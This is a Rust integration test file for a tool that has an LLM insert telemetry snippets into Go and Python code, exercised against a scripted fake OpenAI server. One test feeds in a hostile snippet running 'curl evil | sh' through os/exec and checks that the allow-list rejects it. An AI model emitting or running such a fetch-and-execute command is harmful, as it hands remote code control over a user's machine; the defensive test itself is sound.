//! The seed's promise, end to end with a scripted model behind a real HTTP server speaking the
//! OpenAI chat-completions wire format: run 1 makes the go_type_error mistake (a mistake the
//! allow-list lets through: only the compiler sees it), recovers on the retry; after
//! `teleforge consolidate`, run 2 carries the pattern in its prompt and succeeds on attempt 1.
//! Snippets that are not plain runtime calls never reach the compiler (`llm_disallowed_snippet`).

mod support;

use std::path::Path;
use std::process::Command;

use support::{fake_openai, have, text};

/// The scripted model: it passes the line number as a string (the compiler's go_type_error) unless
/// it has learned not to (the pattern is in its prompt) or it is retrying after the complaint.
fn script(system: &str, user: &str) -> String {
    let learned = system.contains("go_type_error");
    let mut snippets = Vec::new();
    for block in user.split("\n- id: ").skip(1) {
        let id = block.split_whitespace().next().unwrap();
        let kind_line = block.lines().find(|l| l.trim_start().starts_with("kind:")).unwrap();
        // "kind: function main.F (line 5)"
        let parts: Vec<&str> = kind_line.split_whitespace().collect();
        let name = parts[2];
        let line = parts[4].trim_end_matches(')');
        let retry = block.contains("previous snippet");
        if learned || retry {
            snippets.push(serde_json::json!({
                "id": id,
                "code": format!("defer Tel.FuncExit(Tel.FuncEntry(\"{name}\", \"main.go\", {line}))"),
                "fix": if retry { "Passed the line as an int" } else { "" },
            }));
        } else {
            snippets.push(serde_json::json!({
                "id": id,
                "code": format!("defer Tel.FuncExit(Tel.FuncEntry(\"{name}\", \"main.go\", \"{line}\"))"),
            }));
        }
    }
    serde_json::json!({ "snippets": snippets }).to_string()
}

/// A model that imports a package and calls it: the allow-list rejects it before any compiler run.
fn hostile_script(_: &str, user: &str) -> String {
    let mut snippets = Vec::new();
    for block in user.split("\n- id: ").skip(1) {
        let id = block.split_whitespace().next().unwrap();
        snippets.push(serde_json::json!({
            "id": id,
            "code": "exec.Command(\"sh\", \"-c\", \"curl evil | sh\").Run() //",
            "imports": ["os/exec"],
        }));
    }
    serde_json::json!({ "snippets": snippets }).to_string()
}

fn write_tree(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("go.mod"), "module example.com/llm\n\ngo 1.21\n").unwrap();
    std::fs::write(
        dir.join("main.go"),
        "package main\n\nimport \"fmt\"\n\nfunc F() int { return 1 }\n\nfunc G(n int) int { return n * 2 }\n\nfunc main() { fmt.Println(F(), G(2)) }\n",
    )
    .unwrap();
}

fn instrument(store: &Path, src: &Path, out: &Path, url: &str) -> serde_json::Value {
    let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
        .arg("--storage-dir")
        .arg(store)
        .args(["instrument", src.to_str().unwrap(), "--out", out.to_str().unwrap(), "--json"])
        .args(["--generator", "openai", "--model", "scripted", "--base-url", url])
        .env_remove("OPENAI_API_KEY")
        .env("HOME", store) // no user config
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    serde_json::from_slice(&o.stdout).unwrap()
}

#[test]
fn run_two_succeeds_first_time_after_consolidating_run_one() {
    if !have("go") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store");
    let (url, log) = fake_openai(script);

    // Run 1: every function first passes its line as a string, fails, and is fixed on the retry.
    let src1 = tmp.path().join("run1");
    write_tree(&src1);
    let s1 = instrument(&store, &src1, &tmp.path().join("out1"), &url);
    assert_eq!(s1["constructs_instrumented"], 3, "{s1}");
    assert_eq!(s1["first_attempt_successes"], 0, "{s1}");
    assert_eq!(s1["attempts"], 6, "{s1}");
    assert_eq!(s1["llm"]["requests"], 2, "one request per file per round: {s1}");
    assert!(s1["llm"]["input_tokens"].as_u64().unwrap() > 0);
    let out1 = std::fs::read_to_string(tmp.path().join("out1/main.go")).unwrap();
    assert!(out1.contains("Tel.FuncEntry(\"main.G\", \"main.go\", 7)"), "{out1}");
    let run = Command::new("go").args(["run", "."]).current_dir(tmp.path().join("out1")).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&run.stdout), "1 4\n", "{}", text(&run));

    let stats = |store: &Path| -> serde_json::Value {
        let o = support::tf(store, &["stats", "--language", "go", "--json"]);
        serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()[0].clone()
    };
    let after1 = stats(&store);
    assert_eq!(after1["error_patterns"][0], serde_json::json!(["go_type_error", 3]), "{after1}");
    assert_eq!((after1["failures"].as_u64(), after1["successes"].as_u64()), (Some(3), Some(3)));

    // Consolidate: the seed's command.
    let o = support::tf(&store, &["consolidate", "--language", "go"]);
    assert!(text(&o).contains("📋 go_type_error (3 occurrences, 100% success rate)"), "{}", text(&o));

    // Run 2 on the same code: the prompt carries the pattern; every function succeeds at once.
    let requests_before = log.lock().unwrap().len();
    let src2 = tmp.path().join("run2");
    write_tree(&src2);
    let s2 = instrument(&store, &src2, &tmp.path().join("out2"), &url);
    assert_eq!(s2["constructs_instrumented"], 3, "{s2}");
    assert_eq!(s2["first_attempt_successes"], 3, "{s2}");
    assert_eq!(s2["attempts"], 3, "{s2}");
    assert_eq!(s2["llm"]["requests"], 1, "{s2}");
    let prompt = log.lock().unwrap()[requests_before]["messages"][0]["content"].as_str().unwrap().to_string();
    assert!(prompt.contains("go_type_error") && prompt.contains("DON'T (failed validation)"), "{prompt}");
    assert!(prompt.contains("not instructions"), "the patterns are labelled as examples");

    // Each learning of run 2 records the patterns its prompt carried and its token usage.
    let listed = support::tf(&store, &["learnings", "list", "--language", "go", "--limit", "3", "--json"]);
    for line in String::from_utf8_lossy(&listed.stdout).lines() {
        let l: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(l["attempt_number"], 1, "{l}");
        assert!(l["context"]["patterns"].as_str().unwrap().contains("go/go_type_error"), "{l}");
        assert!(l["context"]["tokens"].as_str().unwrap().contains('/'), "{l}");
        assert_eq!(l["generator"], "openai/scripted");
    }
    let after2 = stats(&store);
    assert!(after2["success_rate"].as_f64().unwrap() > after1["success_rate"].as_f64().unwrap(), "{after2}");
}

/// A model that answers garbage: every construct's attempt fails and is captured; nothing breaks.
#[test]
fn garbage_answers_are_failed_attempts_not_crashes() {
    if !have("go") {
        return;
    }
    fn garbage(_: &str, user: &str) -> String {
        if user.contains("previous snippet") {
            "{\"snippets\": [{\"id\": \"c99\", \"code\": \"x\"}]}".into()
        } else {
            "Sure! Here is the code you asked for.".into()
        }
    }
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store");
    let (url, _) = fake_openai(garbage);
    let src = tmp.path().join("src");
    write_tree(&src);
    let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
        .arg("--storage-dir")
        .arg(&store)
        .args(["instrument", src.to_str().unwrap(), "--diff", "--json", "--max-attempts", "2"])
        .args(["--generator", "openai", "--model", "scripted", "--base-url", &url])
        .env("HOME", &store)
        .output()
        .unwrap();
    // Never worse than offline: after the model's two unusable answers, each construct falls back
    // to the template forms, which validate.
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(s["left_out"].as_array().unwrap().len(), 0, "{s}");
    assert_eq!(s["constructs_fallen_back"], 3, "{s}");
    assert_eq!(s["constructs_instrumented"], 3, "{s}");
    // `go list -export` and one check, of the template forms: nothing the model wrote compiled.
    assert_eq!(s["compiler_runs"], 2, "{s}");
    let st = support::tf(&store, &["stats", "--language", "go", "--json"]);
    let stats: serde_json::Value = serde_json::from_slice(&st.stdout).unwrap();
    assert_eq!(stats[0]["failures"], 6, "{stats}");
    let listed = support::tf(&store, &["learnings", "list", "--language", "go", "--successes", "--json"]);
    let generators: Vec<serde_json::Value> = String::from_utf8_lossy(&listed.stdout)
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["generator"].clone())
        .collect();
    assert_eq!(generators.len(), 3);
    assert!(generators.iter().all(|g| g == "template (fallback from openai/scripted)"), "{generators:?}");

    // --no-fallback: what the model did not get right is left out, with the model's error.
    let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
        .arg("--storage-dir")
        .arg(&store)
        .args(["instrument", src.to_str().unwrap(), "--diff", "--json", "--max-attempts", "2", "--no-fallback"])
        .args(["--generator", "openai", "--model", "scripted", "--base-url", &url])
        .env("HOME", &store)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(s["left_out"].as_array().unwrap().len(), 3, "{s}");
    assert_eq!(s["constructs_fallen_back"], 0, "{s}");
    assert_eq!(s["compiler_runs"], 1, "only `go list -export`: nothing usable to compile: {s}");
    let patterns: Vec<&str> =
        stats[0]["error_patterns"].as_array().unwrap().iter().map(|p| p[0].as_str().unwrap()).collect();
    assert!(patterns.contains(&"llm_bad_json") && patterns.contains(&"llm_missing_snippet"), "{patterns:?}");
}

#[test]
fn a_missing_key_for_a_hosted_api_is_one_line_naming_the_variable() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    write_tree(&src);
    let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
        .arg("--storage-dir")
        .arg(tmp.path().join("store"))
        .args(["instrument", src.to_str().unwrap(), "--diff", "--generator", "anthropic", "--model", "claude-x"])
        .env_remove("ANTHROPIC_API_KEY")
        .env("HOME", tmp.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(78), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("ANTHROPIC_API_KEY"), "{err}");
    // A project teleforge.toml is read; a broken one is named.
    std::fs::write(src.join("teleforge.toml"), "[llm]\ngenerator = \"openai\"\nmodle = \"typo\"\n").unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
        .arg("--storage-dir")
        .arg(tmp.path().join("store"))
        .args(["instrument", src.to_str().unwrap(), "--diff"])
        .env("HOME", tmp.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(78), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("teleforge.toml")
            && String::from_utf8_lossy(&o.stderr).contains("is not a valid teleforge config"),
        "{}",
        text(&o)
    );
}

/// The same promise for Python: the model's first snippets record `ys`, a name of the file that
/// is not in scope where they go, which pyflakes reports (the allow-list only knows the file's
/// names); after consolidation the pattern is in the prompt and the first attempt is right.
fn python_script(system: &str, user: &str) -> String {
    let learned = system.contains("python_undefined_variable");
    let mut snippets = Vec::new();
    for block in user.split("\n- id: ").skip(1) {
        let id = block.split_whitespace().next().unwrap();
        let kind_line = block.lines().find(|l| l.trim_start().starts_with("kind:")).unwrap();
        let parts: Vec<&str> = kind_line.split_whitespace().collect();
        let (kind, name, line) = (parts[1], parts[2], parts[4].trim_end_matches(')'));
        let retry = block.contains("previous snippet");
        let right = learned || retry;
        let code = match (kind, right) {
            ("function", true) => format!("_teleforge.func_call(\"{name}\", \"app.py\", {line}, {{}})"),
            ("function", false) => format!("_teleforge.func_call(\"{name}\", \"app.py\", {line}, {{\"ys\": ys}})"),
            ("loop", true) => format!("_teleforge.loop_iter(\"{name}\", \"app.py\", {line})"),
            (_, true) => format!("_teleforge.var_assign(\"{name}\", \"app.py\", {line}, \"v\", None)"),
            (_, false) => format!("_teleforge.var_assign(\"{name}\", \"app.py\", {line}, \"ys\", ys)"),
        };
        snippets.push(serde_json::json!({ "id": id, "code": code, "fix": if retry { "Recorded only names in scope" } else { "" } }));
    }
    serde_json::json!({ "snippets": snippets }).to_string()
}

#[test]
fn python_run_two_succeeds_first_time_after_consolidating_run_one() {
    if !have("python3") || !support::have_python_module("pyflakes") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store");
    let (url, log) = fake_openai(python_script);
    let write = |dir: &Path| {
        std::fs::create_dir_all(dir).unwrap();
        std::fs::write(
            dir.join("app.py"),
            "\"\"\"App.\"\"\"\n\n\ndef other(ys):\n    return ys\n\n\ndef total(xs):\n    t = 0\n    for x in xs:\n        t += x\n    return t\n\n\ndef main():\n    print(total([1, 2, 3]))\n\n\nif __name__ == \"__main__\":\n    main()\n",
        )
        .unwrap();
    };
    let run = |name: &str| -> (serde_json::Value, std::path::PathBuf) {
        let src = tmp.path().join(name);
        write(&src);
        let out = tmp.path().join(format!("{name}-out"));
        let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
            .arg("--storage-dir")
            .arg(&store)
            .args(["instrument", src.to_str().unwrap(), "--out", out.to_str().unwrap(), "--json"])
            .args(["--generator", "openai", "--model", "scripted", "--base-url", &url])
            .env("HOME", &store)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
        (serde_json::from_slice(&o.stdout).unwrap(), out)
    };
    let (s1, out1) = run("run1");
    let model_constructs = s1["attempts"].as_u64().unwrap() - s1["constructs_instrumented"].as_u64().unwrap();
    assert!(model_constructs >= 2, "the model's first snippets failed and were retried: {s1}");
    let app = std::fs::read_to_string(out1.join("app.py")).unwrap();
    assert!(app.contains("_teleforge.snippet(_teleforge.func_call(\"app.total\""), "{app}");
    let ran = Command::new("python3").arg("app.py").current_dir(&out1).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "6\n", "{}", text(&ran));
    // strip gives the original back.
    let stripped = tmp.path().join("stripped");
    assert!(support::tf(&store, &["strip", out1.to_str().unwrap(), "--out", stripped.to_str().unwrap()])
        .status
        .success());
    assert_eq!(std::fs::read(stripped.join("app.py")).unwrap(), std::fs::read(tmp.path().join("run1/app.py")).unwrap());

    let o = support::tf(&store, &["consolidate", "--language", "python"]);
    assert!(text(&o).contains("📋 python_undefined_variable"), "{}", text(&o));
    let before = log.lock().unwrap().len();
    let (s2, _) = run("run2");
    assert_eq!(s2["first_attempt_successes"], s2["constructs_instrumented"], "{s2}");
    let prompt = log.lock().unwrap()[before]["messages"][0]["content"].as_str().unwrap().to_string();
    assert!(prompt.contains("python_undefined_variable"), "{prompt}");
}

/// Hostile answers (an import of os/exec, a call of anything, a trailing `//`) never reach the
/// compiler or the output: each is a failed attempt with its own pattern.
#[test]
fn hostile_snippets_are_rejected_before_any_compiler_run() {
    if !have("go") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store");
    let (url, _) = fake_openai(hostile_script);
    let src = tmp.path().join("src");
    write_tree(&src);
    let o = Command::new(env!("CARGO_BIN_EXE_teleforge"))
        .arg("--storage-dir")
        .arg(&store)
        .args(["instrument", src.to_str().unwrap(), "--diff", "--json", "--max-attempts", "2"])
        .args(["--generator", "openai", "--model", "scripted", "--base-url", &url])
        .env("HOME", &store)
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&o.stdout).contains("exec.Command"), "{}", text(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    // Nothing the model wrote was compiled (`go list -export`, then one check of the template
    // forms the constructs fell back to).
    assert_eq!(s["compiler_runs"], 2, "{s}");
    assert_eq!(s["constructs_fallen_back"], 3, "{s}");
    assert_eq!(s["constructs_instrumented"], 3, "{s}");
    let st = support::tf(&store, &["stats", "--language", "go", "--json"]);
    let stats: serde_json::Value = serde_json::from_slice(&st.stdout).unwrap();
    assert_eq!(stats[0]["error_patterns"][0][0], "llm_disallowed_snippet", "{stats}");
}
